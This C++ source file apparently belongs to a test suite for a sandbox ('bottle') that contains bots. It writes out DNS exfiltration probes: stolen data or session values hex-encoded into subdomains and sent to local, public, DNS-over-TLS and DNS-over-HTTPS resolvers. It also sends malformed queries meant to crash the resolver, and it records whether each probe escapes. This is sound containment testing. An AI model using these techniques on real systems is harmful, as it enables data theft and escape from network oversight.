// 2: names as a way out (B1, B2, B5, B6, B7). In a bottle nothing resolves; what was asked shows up as an event.
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <string>
#include <utility>

#include "core/base/text.hpp"
#include "core/base/unique_fd.hpp"
#include "sidecar/attack/encode.hpp"
#include "sidecar/attack/http.hpp"
#include "sidecar/attack/probe.hpp"

namespace bot_bottle::attack {
namespace {

constexpr int rcode_refused = 5;  // RFC 1035 §4.1.1

/// RFC 1035 §4.1: one question.
std::string query(const std::string& name, std::uint16_t type) {
  std::string out("\x42\x42\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  for (std::string_view label : split(name, '.')) out += static_cast<char>(label.size()) + std::string(label);
  out += '\0';
  out += static_cast<char>(type >> 8);
  out += static_cast<char>(type & 0xff);
  return out + std::string("\0\1", 2);
}

Outcome judge_answer(const std::string& answer) {
  if (answer.size() < 12) return failed("a short answer");
  const int rcode = answer[3] & 0x0f;
  const int answers = (static_cast<unsigned char>(answer[6]) << 8) | static_cast<unsigned char>(answer[7]);
  if (rcode == rcode_refused && answers == 0) return blocked("REFUSED");
  if (answers > 0) return escaped("resolved");
  return escaped("a resolver answered with rcode " + std::to_string(rcode));
}

enum class Transport { udp, tcp };

Outcome ask_resolver(const std::string& address, const std::string& message, Transport transport) {
  const bool tcp = transport == Transport::tcp;
  UniqueFd fd(::socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0));
  const timeval limit{5, 0};
  ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  sockaddr_in peer{};
  peer.sin_family = AF_INET;
  peer.sin_port = htons(53);
  ::inet_pton(AF_INET, address.c_str(), &peer.sin_addr);
  std::string bytes = message;
  if (tcp)
    bytes = std::string{static_cast<char>(message.size() >> 8), static_cast<char>(message.size() & 0xff)} + message;
  if (::connect(fd.get(), reinterpret_cast<sockaddr*>(&peer), sizeof peer) != 0)
    return failed("connect: " + errno_name(errno));
  if (::send(fd.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL) < 0) return failed("send: " + errno_name(errno));
  std::string answer;
  std::array<char, 4096> buffer{};
  for (;;) {
    const ssize_t size = ::recv(fd.get(), buffer.data(), buffer.size(), 0);
    if (size <= 0) return failed(size == 0 ? "closed" : "recv: " + errno_name(errno));
    answer.append(buffer.data(), static_cast<std::size_t>(size));
    if (!tcp) return judge_answer(answer);
    if (answer.size() >= 2 && answer.size() >= 2 + std::size_t{static_cast<unsigned char>(answer[0])} * 256 +
                                                   static_cast<unsigned char>(answer[1]))
      return judge_answer(answer.substr(2));
  }
}

std::string carrier(const Context& context) {
  return to_lower(hex_encode(context.stolen.empty() ? context.session : context.stolen.substr(0, 30)));
}

Outcome resolve(const std::string& name) {
  addrinfo* list = nullptr;
  addrinfo hints{};
  hints.ai_socktype = SOCK_STREAM;
  const int code = ::getaddrinfo(name.c_str(), "443", &hints, &list);
  if (list != nullptr) ::freeaddrinfo(list);
  if (code == 0) return escaped("resolved");
  return blocked(::gai_strerror(code));
}

void add_names(std::vector<Attempt>& out) {
  Subject names(out, "2.1", "dns");
  names.add("getaddrinfo of a subdomain that carries data (B1)",
            [](const Context& context) { return resolve(carrier(context) + "." + context.denied); });
  names.add("getaddrinfo of a subdomain of an allowed host (B2)",
            [](const Context& context) { return resolve(carrier(context) + "." + context.origin); });
  names.add("getaddrinfo of the allowed host itself", [](const Context& context) { return resolve(context.origin); });
  names.add("getaddrinfo of host.docker.internal", [](const Context&) { return resolve("host.docker.internal"); });
}

void add_queries(std::vector<Attempt>& out) {
  Subject queries(out, "2.2", "dns");
  const std::pair<const char*, std::uint16_t> types[] = {{"A", 1},     {"AAAA", 28}, {"TXT", 16},
                                                         {"NULL", 10}, {"ANY", 255}, {"HTTPS", 65}};
  for (const auto& [text, type] : types)
    queries.add(std::string("UDP query, ") + text + ", to the bottle's own resolver (B1)", [type = type](
                                                                                               const Context& context) {
      return ask_resolver("127.0.0.1", query(carrier(context) + "." + context.denied, type), Transport::udp);
    });
  queries.add("TCP query to the bottle's own resolver (B1)", [](const Context& context) {
    return ask_resolver("127.0.0.1", query(carrier(context) + "." + context.denied, 16), Transport::tcp);
  });
  const std::pair<const char*, std::string> broken[] = {
      {"a compression loop", std::string("\x42\x42\x01\0\0\x01\0\0\0\0\0\0\xc0\x0c\0\x01\0\x01", 18)},
      {"a label beyond the end", std::string("\x42\x42\x01\0\0\x01\0\0\0\0\0\0\x3f"
                                             "a",
                                             14)},
      {"65535 questions", std::string("\x42\x42\x01\0\xff\xff\0\0\0\0\0\0\x01"
                                      "a\0\0\x01\0\x01",
                                      19)},
      {"an empty datagram's worth", std::string("\0", 1)},
      {"control octets in a label", std::string("\x42\x42\x01\0\0\x01\0\0\0\0\0\0\x05\x1b[2Jx\0\0\x01\0\x01", 23)},
  };
  for (const auto& [text, message] : broken)
    queries.add(std::string("malformed query: ") + text + "; the resolver survives (B6)", [message = message](
                                                                                              const Context& context) {
      UniqueFd fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
      sockaddr_in peer{};
      peer.sin_family = AF_INET;
      peer.sin_port = htons(53);
      peer.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      if (::sendto(fd.get(), message.data(), message.size(), 0, reinterpret_cast<sockaddr*>(&peer), sizeof peer) < 0)
        return failed("sendto: " + errno_name(errno));
      return ask_resolver("127.0.0.1", query("after." + context.denied, 1), Transport::udp);
    });
}

void add_elsewhere(std::vector<Attempt>& out) {
  Subject elsewhere(out, "2.3", "netns");
  for (const char* address : {"8.8.8.8", "1.1.1.1", "9.9.9.9", "169.254.169.253", "2001:4860:4860::8888"}) {
    elsewhere.add(std::string("UDP query to ") + address + " (B1)",
                  [address = std::string(address)](const Context& context) {
                    return send_udp(address, 53, query(carrier(context) + "." + context.denied, 1), Where::elsewhere);
                  });
    elsewhere.add(std::string("TCP query to ") + address + " (B1)",
                  [address = std::string(address)](const Context&) { return dial_tcp(address, 53, Where::elsewhere); });
    elsewhere.add(
        std::string("DNS over TLS to ") + address + ":853 (B7)",
        [address = std::string(address)](const Context&) { return dial_tcp(address, 853, Where::elsewhere); });
  }
  for (const char* address : {"127.0.0.53", "127.0.0.54", "127.0.0.11"})
    elsewhere.add(std::string("UDP query to a host resolver at ") + address + " (B1)", [address = std::string(address)](
                                                                                           const Context& context) {
      return send_udp(address, 53, query(carrier(context) + "." + context.denied, 1), Where::own_loopback);
    });
}

void add_https(std::vector<Attempt>& out) {
  Subject https(out, "2.4", "routes", Needs::egress);
  for (const char* host : {"dns.google", "cloudflare-dns.com", "dns.quad9.net", "mozilla.cloudflare-dns.com"})
    https.add(std::string("DNS over HTTPS to ") + host + " through the proxy (B7)",
              [host = std::string(host)](const Context& context) {
                return judge(context, ask_connect(context, host + ":443"));
              });
  https.add("DNS over TLS through the proxy: CONNECT dns.google:853 (B7)",
            [](const Context& context) { return judge(context, ask_connect(context, "dns.google:853")); });

  Subject carried(out, "2.5", "dns-message", Needs::egress);
  carried.add("a DNS message POSTed to an allowed host (B7)", [](const Context& context) {
    return judge(
        context,
        ask_tls(context, request("POST", "/dns-query", context.origin, "Content-Type: application/dns-message\r\n",
                                 query("data." + context.denied, 1))),
        accept::media);
  });
  carried.add("a DNS message in the query of an allowed host (B7)", [](const Context& context) {
    return judge(context,
                 ask_tls(context, request("GET",
                                          "/dns-query?dns=" + base64_at(query("data." + context.denied, 1), 0,
                                                                        Alphabet::url_safe, Padding::drop),
                                          context.origin, "Accept: application/dns-message\r\n")),
                 accept::media);
  });
}

}  // namespace

void add_dns(std::vector<Attempt>& out, const Context&) {
  add_names(out);
  add_queries(out);
  add_elsewhere(out);
  add_https(out);
}

}  // namespace bot_bottle::attack
